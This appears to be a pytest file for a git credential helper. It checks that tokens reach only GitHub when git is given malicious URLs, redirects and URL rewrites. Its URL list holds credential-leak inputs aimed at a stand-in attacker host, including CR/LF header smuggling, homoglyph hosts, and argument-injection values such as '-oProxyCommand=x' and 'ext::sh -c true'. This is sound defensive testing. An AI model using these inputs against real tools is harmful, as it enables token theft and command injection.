"""A URL that somebody else wrote never carries a token to any host but GitHub's."""

import pytest

from tests.support.evidence import Survived, Tried
from tests.support.streets import EVIL, Street
from tests.support.workspaces import password

# Through git itself, which takes them apart before the helper is asked.
URLS = [
    *(f"https://github.com%{code}.{EVIL}/acme/app" for code in ("0a", "0d", "00", "20", "2f")),
    *(f"https://{EVIL}%{code}host=github.com/acme/app" for code in ("0a", "0d%0a", "0d", "00")),
    f"https://{EVIL}/%0ahost=github.com",
    f"https://{EVIL}/acme/app%0aprotocol=https%0ahost=github.com",
    f"https://x%0ahost=github.com@{EVIL}/acme/app",
    f"https://x-access-token%0d@{EVIL}/acme/app",
    f"https://github.com@{EVIL}/acme/app",
    f"https://github.com:443@{EVIL}/acme/app",
    f"https://github.com%2f@{EVIL}/acme/app",
    f"https://github.com%40{EVIL}/acme/app",
    f"https://x-access-token@{EVIL}/acme/app",
    f"https://x-access-token:x@{EVIL}/acme/app",
    f"https://user:pass@{EVIL}/acme/app",
    f"https://demo%5Bbot%5D@{EVIL}/acme/app",
    f"https://github.com#@{EVIL}/acme/app",
    f"https://github.com?@{EVIL}/acme/app",
    f"https://github.com\\@{EVIL}/acme/app",
    f"https://github.com\\.{EVIL}/acme/app",
    f"https://{EVIL}\\github.com/acme/app",
    f"https://github.com.{EVIL}/acme/app",
    f"https://{EVIL}/github.com/acme/app",
    f"https://{EVIL}/https://github.com/acme/app",
    f"https://{EVIL}:443/acme/app",
    "https://github.com./acme/app",
    "https://github.com../acme/app",
    "https://GITHUB.COM./acme/app",
    "https://github.com:8443/acme/app",
    "https://github.com:80/acme/app",
    "https://github.com:0443/acme/app",
    "https://github.com:/acme/app",
    "https://api.github.com/acme/app",
    "https://gist.github.com/acme/app",
    "https://www.github.com/acme/app",
    "https://notgithub.com/acme/app",
    "https://[::1]/acme/app",
    "https://[::ffff:127.0.0.1]:443/acme/app",
    "https://127.0.0.1/acme/app",
    "https://2130706433/acme/app",
    "https://g\u0131thub.com/acme/app",
    "https://github\u3002com/acme/app",
    "https://\uff47\uff49\uff54\uff48\uff55\uff42.com/acme/app",
    "https://xn--gthub-n4a.com/acme/app",
    "http://github.com/acme/app",
    "http://github.com:443/acme/app",
    f"http://github.com@{EVIL}/acme/app",
    f"https://{'a' * 63}.{'b' * 63}.{'c' * 63}.{EVIL}/acme/app",
    f"https://{EVIL}/{'acme/' * 2000}app",
    f"https://-{EVIL}/acme/app",
    "https://-oProxyCommand=x/acme/app",
    f"https://{EVIL}/--upload-pack=x",
    f"HTTPS://{EVIL}/acme/app",
    f"https:{EVIL}/acme/app",
    f"https:///{EVIL}/acme/app",
    f"//{EVIL}/github.com",
    "ext::sh -c true",
]  # fmt: skip


@pytest.mark.guarantee("host")
def test_no_url_carries_a_token_elsewhere(street: Street, tried: Tried) -> None:
    """Not even where the helper was given every host, and git's own rules do not help."""
    street.git("ls-remote", "https://github.com/acme/app")
    assert street.tokens
    for url in URLS:
        street.git("ls-remote", "--", url)
    assert street.leaked() == []
    hosts = {one.host for one in street.evil.seen}
    # They were there, and asked for a password.
    assert {f"{EVIL}:443", f"github.com.{EVIL}:443", "github.com:8443", "github.com"} <= hosts
    tried("malicious URLs through git", len(URLS))


@pytest.mark.guarantee("host")
def test_no_redirect_carries_a_token_along(street: Street, survived: Survived) -> None:
    """Before and after GitHub has asked for the token, at a fetch and at a push."""
    street.git("clone", "https://github.com/acme/app.git", "app")
    for after, status in ((0, 302), (1, 307)):
        for service in ("git-upload-pack", "git-receive-pack"):
            street.workspace.github.fault(
                f"GET github.com/acme/app.git/info/refs?service={service}",
                status=status,
                after=after,
                headers={"location": f"https://{EVIL}/acme/app.git/info/refs?service={service}"},
            )
            config = ("-C", "app", "-c", "http.followRedirects=true")
            street.git(*config, "ls-remote", "https://github.com/acme/app.git")
            street.git(*config, "push", "https://github.com/acme/app.git", "HEAD:refs/heads/x")
        street.workspace.github.clear_faults()
    assert street.leaked() == []
    assert {one.host for one in street.evil.seen} == {f"{EVIL}:443"}
    assert {"git-upload-pack", "git-receive-pack"} == {
        one.line.partition("service=")[2].partition(" ")[0] for one in street.evil.seen
    }
    survived("a redirect to another host")


@pytest.mark.guarantee("host")
def test_a_url_that_is_rewritten_is_judged_by_where_it_leads(street: Street) -> None:
    """A repository's config can rewrite URLs and add headers; the token is no part of either."""
    street.git("clone", "https://github.com/acme/app", "app")
    rewrite = f"url.https://{EVIL}/"
    for config in (
        [f"{rewrite}.insteadOf=https://github.com/"],
        [f"{rewrite}.pushInsteadOf=https://github.com/"],
        [f"{rewrite}.insteadOf=https://github.com/", "http.extraHeader=Authorization: x"],
        [f"{rewrite}.insteadOf=https://github.com/", "credential.useHttpPath=false"],
        [f"{rewrite}.insteadOf=https://github.com/", "credential.username=x-access-token"],
    ):
        options = [word for one in config for word in ("-c", one)]
        street.git("-C", "app", *options, "fetch")
        street.git("-C", "app", *options, "push", "origin", "HEAD:refs/heads/x")
    assert street.leaked() == []
    assert {one.host for one in street.evil.seen} == {f"{EVIL}:443"}


def test_upper_case_and_the_default_port_are_github(street: Street) -> None:
    """The harness sees what is carried: here a token is, to GitHub alone."""
    before = street.workspace.github.stats()["git_requests"]
    for url in ("https://GitHub.com/acme/app", "https://github.com:443/acme/app"):
        ran = street.workspace.git("ls-remote", url)
        assert b"refs/heads/main" in ran.stdout
    assert street.workspace.github.stats()["git_requests"] > before
    assert password(street.workspace.ask("acme/app").stdout)
    assert street.evil.seen == []
